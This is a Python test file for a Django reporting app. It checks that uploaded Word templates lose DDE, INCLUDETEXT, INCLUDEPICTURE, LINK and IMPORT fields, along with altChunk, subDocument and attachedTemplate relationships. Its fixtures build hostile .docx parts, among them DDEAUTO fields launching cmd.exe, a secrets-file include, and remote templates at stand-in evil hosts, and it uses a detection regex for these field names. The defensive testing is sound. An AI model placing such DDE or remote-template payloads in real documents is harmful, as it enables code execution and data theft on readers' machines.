"""Uploaded Word templates lose every field and relationship that reaches outside the file.

The fixtures are written the way an attacker would: DDE in a simple field, instructions
split across runs in odd case, fields in headers, footers, footnotes, endnotes and the
glossary, documents pulled in by altChunk / subDocument / attachedTemplate.
"""

import io
import re
import zipfile

import docx
import pytest
from django.core.exceptions import ValidationError
from lxml import etree

from cosa import documents
from reports import documents as report_documents
from reports import services
from reports.models import ReportTemplate

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
NS = f'xmlns:w="{W}" xmlns:r="{R}"'
REL_BASE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

OUTSIDE = re.compile(r"\b(DDE|DDEAUTO|INCLUDETEXT|INCLUDE|INCLUDEPICTURE|IMPORT|LINK)\b", re.I)


def _runs(*pieces):
    """Runs of a complex field: ("begin"|"separate"|"end") or instruction text."""
    xml = []
    for piece in pieces:
        if piece in ("begin", "separate", "end"):
            xml.append(f'<w:r><w:fldChar w:fldCharType="{piece}"/></w:r>')
        elif piece.startswith("result:"):
            xml.append(f"<w:r><w:t>{piece[7:]}</w:t></w:r>")
        else:
            xml.append(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>')
    return "".join(xml)


def _paragraph(inner):
    return f"<w:p {NS}>{inner}</w:p>"


DDE_SIMPLE = _paragraph(
    '<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ">'
    "<w:r><w:t>cached dde</w:t></w:r></w:fldSimple>"
)
DDE_SPLIT = _paragraph(
    _runs("begin", " d", "De", "aUTO c:\\\\cmd.exe", "separate", "result:cached split", "end")
)
# The instruction's name is itself a field's result: unknowable until it runs.
BUILT_BY_FIELD = _paragraph(
    _runs("begin", "begin", 'QUOTE "INCLUDETEXT"', "separate", "result:x", "end")
    + _runs(' "c:\\\\secrets.txt"', "separate", "result:cached built", "end")
)
# A field across two paragraphs: begin in one, end in the next.
LINK_ACROSS = (
    f"<w:p {NS}>{_runs('begin', 'Link Excel.Sheet.8 ', 'separate', 'result:cached across')}</w:p>"
    f"<w:p {NS}>{_runs('result:still cached', 'end')}<w:r><w:t>after the link</w:t></w:r></w:p>"
)
HARMLESS = _paragraph(
    _runs("begin", " PAGE ", "separate", "result:1", "end")
    + '<w:fldSimple w:instr="NUMPAGES"><w:r><w:t>2</w:t></w:r></w:fldSimple>'
)
ALT_CHUNK = f'<w:altChunk {NS} r:id="rIdChunk"/>'


def _part(root_tag, *paragraphs):
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f"<w:{root_tag} {NS}>{''.join(paragraphs)}</w:{root_tag}>"
    ).encode()


def _notes(kind):
    paragraphs = _paragraph(_runs("begin", "includePicture http://tracker.example/p.png", "end"))
    return _part(
        f"{kind}s",
        f'<w:{kind} w:id="1">{paragraphs}'
        f"{_paragraph('<w:r><w:t>{{ core_member.reference }}</w:t></w:r>')}</w:{kind}>",
    )


def _insert(xml, fragments, before):
    root = etree.fromstring(xml)
    anchor = root.find(f".//{{{W}}}{before}")
    for fragment in fragments:
        anchor.addprevious(etree.fromstring(fragment))
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)


def _add_rel(xml, rid, kind, target, external=False):
    root = etree.fromstring(xml)
    rel = etree.SubElement(root, f"{{{PKG}}}Relationship", Id=rid, Type=REL_BASE + kind)
    rel.set("Target", target)
    if external:
        rel.set("TargetMode", "External")
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)


def _add_override(xml, part, content_type):
    root = etree.fromstring(xml)
    etree.SubElement(root, f"{{{CT}}}Override", PartName=part, ContentType=content_type)
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)


def hostile_template():
    """A .docx with outside-reaching fields in every kind of part and importing relationships;
    its ordinary placeholders must still render once it is cleaned."""
    document = docx.Document()
    document.add_paragraph("Reference {{ core_member.reference }}")
    document.add_paragraph("Held {{ attendance.held }}")
    section = document.sections[0]
    section.header.paragraphs[0].text = "Header {{ core_member.reference }}"
    section.footer.paragraphs[0].text = "Footer {{ period.label }}"
    out = io.BytesIO()
    document.save(out)
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    parts = {name: source.read(name) for name in source.namelist()}

    parts["word/document.xml"] = _insert(
        parts["word/document.xml"],
        [DDE_SIMPLE, DDE_SPLIT, BUILT_BY_FIELD, ALT_CHUNK],
        "sectPr",
    )
    # The two paragraphs of one field.
    for fragment in re.findall(r"<w:p .*?</w:p>", LINK_ACROSS) + [HARMLESS]:
        parts["word/document.xml"] = _insert(parts["word/document.xml"], [fragment], "sectPr")
    header = next(n for n in parts if re.match(r"word/header\d*\.xml", n))
    footer = next(n for n in parts if re.match(r"word/footer\d*\.xml", n))
    parts[header] = _insert(parts[header], [DDE_SPLIT], "p")
    parts[footer] = _insert(
        parts[footer],
        [_paragraph(_runs("begin", "IMPORT c:\\\\logo.wmf", "end"))],
        "p",
    )
    parts["word/footnotes.xml"] = _notes("footnote")
    parts["word/endnotes.xml"] = _notes("endnote")
    parts["word/glossary/document.xml"] = _part(
        "glossaryDocument",
        f"<w:docParts><w:docPart><w:docPartBody>{DDE_SIMPLE}"
        "</w:docPartBody></w:docPart></w:docParts>",
    )
    parts["word/afchunk.mht"] = b"MIME-Version: 1.0\r\n\r\n<html>pulled in</html>"
    parts["word/subdoc.docx"] = b"PK not really"
    rels = parts["word/_rels/document.xml.rels"]
    rels = _add_rel(rels, "rIdChunk", "aFChunk", "afchunk.mht")
    rels = _add_rel(rels, "rIdSub", "subDocument", "subdoc.docx")
    rels = _add_rel(rels, "rIdRemoteSub", "subDocument", "https://evil.example/s.docx", True)
    rels = _add_rel(rels, "rIdFoot", "footnotes", "footnotes.xml")
    rels = _add_rel(rels, "rIdEnd", "endnotes", "endnotes.xml")
    rels = _add_rel(rels, "rIdGloss", "glossaryDocument", "glossary/document.xml")
    parts["word/_rels/document.xml.rels"] = rels
    parts["word/_rels/settings.xml.rels"] = _add_rel(
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
        "rIdTpl",
        "attachedTemplate",
        "file:///c:/templates/evil.dotm",
        True,
    )
    settings = etree.fromstring(parts["word/settings.xml"])
    settings.insert(0, etree.fromstring(f'<w:attachedTemplate {NS} r:id="rIdTpl"/>'))
    parts["word/settings.xml"] = etree.tostring(settings, xml_declaration=True, encoding="UTF-8")
    parts["[Content_Types].xml"] = _add_override(
        parts["[Content_Types].xml"], "/word/afchunk.mht", "message/rfc822"
    )
    parts["[Content_Types].xml"] = _add_override(
        parts["[Content_Types].xml"], "/word/subdoc.docx", documents.DOCX_MIME
    )
    wml = "application/vnd.openxmlformats-officedocument.wordprocessingml."
    for part, kind in (
        ("footnotes", "footnotes"),
        ("endnotes", "endnotes"),
        ("glossary/document", "document.glossary"),
    ):
        parts["[Content_Types].xml"] = _add_override(
            parts["[Content_Types].xml"], f"/word/{part}.xml", f"{wml}{kind}+xml"
        )
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return result.getvalue()


def _xml_parts(content):
    archive = zipfile.ZipFile(io.BytesIO(content))
    return {
        name: archive.read(name).decode()
        for name in archive.namelist()
        if name.endswith((".xml", ".rels"))
    }


def _instructions(xml):
    """Every field instruction in one part: simple fields' and complex fields' (joined)."""
    root = etree.fromstring(xml.encode())
    simple = [e.get(f"{{{W}}}instr") for e in root.iter(f"{{{W}}}fldSimple")]
    complex_text = "".join(e.text or "" for e in root.iter(f"{{{W}}}instrText"))
    return simple + [complex_text]


def _assert_nothing_reaches_outside(content):
    parts = _xml_parts(content)
    for name, xml in parts.items():
        if name.endswith(".rels"):
            assert "External" not in xml, name
            assert not re.search(r"aFChunk|subDocument|attachedTemplate", xml), name
            continue
        for instruction in _instructions(xml):
            assert not OUTSIDE.search(instruction or ""), (name, instruction)
        assert "altChunk" not in xml and "attachedTemplate" not in xml, name
        assert "cached dde" not in xml and "cached split" not in xml, name
    names = zipfile.ZipFile(io.BytesIO(content)).namelist()
    assert "word/afchunk.mht" not in names and "word/subdoc.docx" not in names
    assert "afchunk" not in parts["[Content_Types].xml"]
    assert "subdoc" not in parts["[Content_Types].xml"]


def test_the_fixture_really_is_hostile():
    parts = _xml_parts(hostile_template())
    joined = " ".join(
        " ".join(i or "" for i in _instructions(x))
        for n, x in parts.items()
        if not n.endswith(".rels")
    )
    for name in ("DDEAUTO", "dDeaUTO", "includePicture", "IMPORT", "Link", "INCLUDETEXT"):
        assert name.lower() in joined.lower(), name
    assert "altChunk" in parts["word/document.xml"]
    assert "attachedTemplate" in parts["word/settings.xml"]


def test_an_upload_loses_every_outside_field_and_importing_relationship():
    cleaned, removed = documents.docx_clean_upload(hostile_template())
    _assert_nothing_reaches_outside(cleaned)
    # 3 relationships in the document's, 1 in settings'; fields: 4 in the body plus the
    # altChunk, 1 each in header, footer, footnotes, endnotes, glossary, attachedTemplate.
    assert removed == 4 + 5 + 6
    body = _xml_parts(cleaned)["word/document.xml"]
    # What is not an outside field stays: PAGE and NUMPAGES, and the text after the link.
    assert "PAGE" in body and "NUMPAGES" in body and "after the link" in body
    assert "cached across" not in body and "still cached" not in body


def test_a_cleaned_upload_still_renders_its_placeholders(world):
    manager = world.users["manager"]
    stored = services.report_template_upload(
        kind="mappa", name="ours.docx", content=hostile_template(), acting_user=manager
    )
    assert stored.stripped_relationships == 15
    report = report_documents.sample_report("mappa")
    rendered = documents.docx_render(bytes(stored.content), report)
    _assert_nothing_reaches_outside(rendered)
    text = documents.docx_text(rendered)
    assert "Reference CM-000000" in text and "Held 4" in text
    assert "Header CM-000000" in text and "Footer 1 Jan 2026 to 31 Jan 2026" in text
    assert "CM-000000" in _xml_parts(rendered)["word/footnotes.xml"]


def test_a_template_rendered_without_cleaning_is_still_stripped():
    """The rendered document is stripped too, so no path skips the cleaning."""
    rendered = documents.docx_render(hostile_template(), report_documents.sample_report("mappa"))
    _assert_nothing_reaches_outside(rendered)


def test_a_template_cannot_write_raw_word_xml(world):
    probe = docx.Document()
    probe.add_paragraph("{{ '<w:fldSimple w:instr=\"DDEAUTO calc\"/>' | safe }}")
    out = io.BytesIO()
    probe.save(out)
    with pytest.raises(ValidationError, match="cannot be filled in"):
        services.report_template_upload(
            kind="mappa", name="x.docx", content=out.getvalue(), acting_user=world.users["manager"]
        )
    assert not ReportTemplate.objects.exists()
